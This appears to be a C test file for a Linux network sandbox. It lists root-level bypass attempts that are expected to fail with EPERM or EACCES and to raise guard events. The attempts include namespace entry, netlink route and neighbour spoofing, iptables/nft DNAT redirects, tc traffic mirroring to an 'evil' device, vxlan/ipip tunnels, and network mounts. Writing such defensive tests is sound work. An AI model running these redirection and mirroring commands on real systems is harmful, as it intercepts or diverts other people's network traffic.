/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* Root changes the network under the hooks: namespaces, routes, translation, tunnels, devices. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/if_tun.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

static const struct dest ok = { OK4, PORT };
static const struct dest own_loopback = { "127.0.0.1", PORT };

/* ---- another network namespace --------------------------------------------------------- */

/* evil's: its loopback is somebody else's */
static int send_there(int ns)
{
	if (ns < 0 || setns(ns, CLONE_NEWNET))
		return -errno;
	return udp_to(&own_loopback);
}

static int enter_by_process(const void *unused)
{
	char path[64];

	(void)unused;
	snprintf(path, sizeof(path), "/proc/%d/ns/net", world.hosted);
	return send_there(open(path, O_RDONLY | O_CLOEXEC));
}

static int enter_by_pidfd(const void *unused)
{
	(void)unused;
	return send_there((int)syscall(SYS_pidfd_open, world.hosted, 0));
}

static int enter_by_mount(const void *unused)
{
	(void)unused;
	return send_there(open("/run/netns/evil", O_RDONLY | O_CLOEXEC));
}

static int own_network(const void *unused)
{
	(void)unused;
	return result(unshare(CLONE_NEWNET));
}

/* ---- by netlink -------------------------------------------------------------------------- */

struct request {
	struct nlmsghdr h;
	union {
		struct rtmsg route;
		struct ifaddrmsg addr;
		struct ndmsg neigh;
		struct ifinfomsg link;
	} u;
	char attrs[128];
};

static void put(struct request *r, unsigned short type, const void *data, size_t len)
{
	struct rtattr *a = (void *)((char *)&r->h + NLMSG_ALIGN(r->h.nlmsg_len));

	a->rta_type = type;
	a->rta_len = (unsigned short)RTA_LENGTH(len);
	memcpy(RTA_DATA(a), data, len);
	r->h.nlmsg_len = NLMSG_ALIGN(r->h.nlmsg_len) + RTA_ALIGN(a->rta_len);
}

static void begin(struct request *r, unsigned short type, size_t len)
{
	memset(r, 0, sizeof(*r));
	r->h.nlmsg_len = (uint32_t)NLMSG_LENGTH(len);
	r->h.nlmsg_type = type;
	r->h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_REPLACE;
	r->h.nlmsg_seq = 1;
}

static int ask(const struct request *r)
{
	char answer[4096] __attribute__((aligned(8)));
	const struct nlmsghdr *h = (void *)answer;
	int fd = open_socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);

	if (fd < 0)
		return fd;
	if (send(fd, r, r->h.nlmsg_len, 0) < 0 || recv(fd, answer, sizeof(answer), 0) < 0)
		return -errno;
	return h->nlmsg_type == NLMSG_ERROR ? ((const struct nlmsgerr *)NLMSG_DATA(h))->error : 0;
}

static const uint8_t ok_bytes[] = { 10, 203, 1, 2 }, evil_bytes[] = { 10, 203, 2, 2 };

/* ok is behind evil now: the address stays allowed */
static int route(const void *unused)
{
	int oif = (int)if_nametoindex("evil"), err;
	struct request r;

	(void)unused;
	begin(&r, RTM_NEWROUTE, sizeof(r.u.route));
	r.u.route = (struct rtmsg){ .rtm_family = AF_INET, .rtm_dst_len = 32,
				    .rtm_table = RT_TABLE_MAIN, .rtm_protocol = RTPROT_STATIC,
				    .rtm_scope = RT_SCOPE_UNIVERSE, .rtm_type = RTN_UNICAST };
	put(&r, RTA_DST, ok_bytes, 4);
	put(&r, RTA_GATEWAY, evil_bytes, 4);
	put(&r, RTA_OIF, &oif, 4);
	err = ask(&r);
	return err ? err : udp_to(&ok);
}

/* ok's address is this host's, and its relays are ok's */
static int address(const void *unused)
{
	struct request r;

	(void)unused;
	begin(&r, RTM_NEWADDR, sizeof(r.u.addr));
	r.u.addr = (struct ifaddrmsg){ .ifa_family = AF_INET, .ifa_prefixlen = 32,
				       .ifa_index = if_nametoindex("lo") };
	put(&r, IFA_LOCAL, ok_bytes, 4);
	return ask(&r);
}

/* ok's address is somebody else's on the same wire */
static int neighbour(const void *unused)
{
	static const uint8_t mac[] = { 2, 0, 0, 0, 0, 0x66 };
	struct request r;

	(void)unused;
	begin(&r, RTM_NEWNEIGH, sizeof(r.u.neigh));
	r.u.neigh = (struct ndmsg){ .ndm_family = AF_INET, .ndm_state = NUD_PERMANENT,
				    .ndm_ifindex = (int)if_nametoindex("ok") };
	put(&r, NDA_DST, ok_bytes, 4);
	put(&r, NDA_LLADDR, mac, 6);
	return ask(&r);
}

/* behind a question that may be asked */
static int neighbour_behind(const void *unused)
{
	struct {
		struct request a, b;
	} two;
	struct request r;
	int fd = open_socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), got = 0;
	char answer[8192] __attribute__((aligned(8)));
	const struct nlmsghdr *h = (void *)answer;
	char *at = (void *)&two;

	(void)unused;
	if (fd < 0)
		return fd;
	begin(&r, RTM_GETLINK, sizeof(r.u.link));
	r.h.nlmsg_flags = NLM_F_REQUEST;
	r.u.link.ifi_index = 1;
	memcpy(at, &r, r.h.nlmsg_len);
	at += NLMSG_ALIGN(r.h.nlmsg_len);
	begin(&r, RTM_NEWLINK, sizeof(r.u.link));
	r.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
	r.u.link.ifi_index = 1;
	memcpy(at, &r, r.h.nlmsg_len);
	at += NLMSG_ALIGN(r.h.nlmsg_len);
	if (send(fd, &two, (size_t)(at - (char *)&two), 0) < 0)
		return -errno;
	while (got++ < 2 && recv(fd, answer, sizeof(answer), 0) > 0)
		if (h->nlmsg_type == NLMSG_ERROR)
			return ((const struct nlmsgerr *)NLMSG_DATA(h))->error;
	return -EPROTO;
}

/* ---- by program ------------------------------------------------------------------------------ */

static int then_send(const void *command)
{
	int err = tool(command);

	return err ? err : udp_to(&ok);
}

/* ---- tun, kernel clients --------------------------------------------------------------------- */

static int tun(const void *unused)
{
	struct ifreq ifr = { .ifr_name = "attacks%d", .ifr_flags = IFF_TUN | IFF_NO_PI };
	int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);

	(void)unused;
	return fd < 0 ? -errno : result(ioctl(fd, TUNSETIFF, &ifr));
}

static int forward(const void *unused)
{
	int fd = open("/proc/sys/net/ipv4/ip_forward", O_RDWR | O_CLOEXEC);
	char now[8] = "";

	(void)unused;
	if (fd < 0 || read(fd, now, sizeof(now) - 1) < 1)
		return -errno;
	return result(pwrite(fd, now, strlen(now), 0));
}

/* Of a server that there is not: who gets as far as being told so may mount. */
static int mount_of(const void *type)
{
	if (!mount("10.203.2.2:/", D "/mnt", type, 0, "addr=10.203.2.2"))
		return umount2(D "/mnt", MNT_DETACH);
	return errno == EPERM || errno == EACCES ? -errno : 0;
}

static int network_block(const void *unused)
{
	int fd = open("/dev/nbd0", O_RDWR | O_CLOEXEC);

	(void)unused;
	return fd < 0 ? -errno : 0;
}

#define ROW(n, f, a, j, e, v) { .name = n, .run = f, .arg = a, .by = BY_ROOT, .judge = j, \
				.err = e, .event = v }
#define TOOL(n, c) ROW(n, then_send, c, "evil", "EPERM", \
		       "capable/guard netlink/guard socket/family")

const struct attack attacks_rewrite[] = {
	ROW("A40:process", enter_by_process, NULL, "evil", "EACCES EPERM", NULL),
	ROW("A40:pidfd", enter_by_pidfd, NULL, "evil", "EPERM", NULL),
	ROW("A40:mount", enter_by_mount, NULL, "evil", "EPERM", "capable/guard"),
	ROW("A40:own", own_network, NULL, "claim", "EPERM", "capable/guard"),

	TOOL("A41:dnat", "nft -f " D "/bin/dnat.nft"),
	ROW("A41:legacy", then_send, "iptables-legacy -t nat -A OUTPUT -d 10.203.1.2 -j DNAT "
	    "--to 10.203.2.2", "evil", "EPERM EIO", "capable/guard socket/family"),
	ROW("A42:route", route, NULL, "evil", "EPERM", "netlink/guard capable/guard"),
	ROW("A42:address", address, NULL, "claim", "EPERM", "netlink/guard capable/guard"),
	ROW("A42:neighbour", neighbour, NULL, "claim", "EPERM", "netlink/guard capable/guard"),
	ROW("A42:behind-a-question", neighbour_behind, NULL, "claim", "EPERM",
	    "netlink/guard capable/guard"),
	TOOL("A42:rule", "ip rule add to 10.203.1.2 lookup 77 && "
	     "ip route add 10.203.1.2 via 10.203.2.2 table 77"),
	TOOL("A43:mirror", "tc qdisc add dev ok clsact && tc filter add dev ok egress matchall "
	     "action mirred egress mirror dev evil"),
	TOOL("A43:dup", "nft -f " D "/bin/dup.nft"),
	TOOL("A44:vxlan", "ip link add attacks1 type vxlan id 7 remote 10.203.2.2 dstport 4789 && "
	     "ip addr add 10.209.0.1/24 dev attacks1 && ip link set attacks1 up && "
	     "ip route add 10.203.1.2/32 dev attacks1 && ip neigh replace 10.203.1.2 "
	     "lladdr 02:00:00:00:00:66 dev attacks1"),
	TOOL("A44:ipip", "ip tunnel add attacks1 mode ipip remote 10.203.2.2 local 10.203.2.1 && "
	     "ip link set attacks1 up && ip route add 10.203.1.2/32 dev attacks1"),
	ROW("A45:tun", tun, NULL, "claim", "EACCES", "open/device"),
	ROW("A45:forward", forward, NULL, "claim", "EACCES", "open/guard"),
	ROW("A46:nfs", mount_of, "nfs", "claim", "EPERM", "mount/guard capable/guard"),
	ROW("A46:cifs", mount_of, "cifs", "claim", "EPERM", "mount/guard capable/guard"),
	ROW("A46:9p", mount_of, "9p", "claim", "EPERM", "mount/guard capable/guard"),
	ROW("A46:ceph", mount_of, "ceph", "claim", "EPERM", "mount/guard capable/guard"),
	ROW("A46:nbd", network_block, NULL, "claim", "EACCES", "open/guard"),
	{},
};
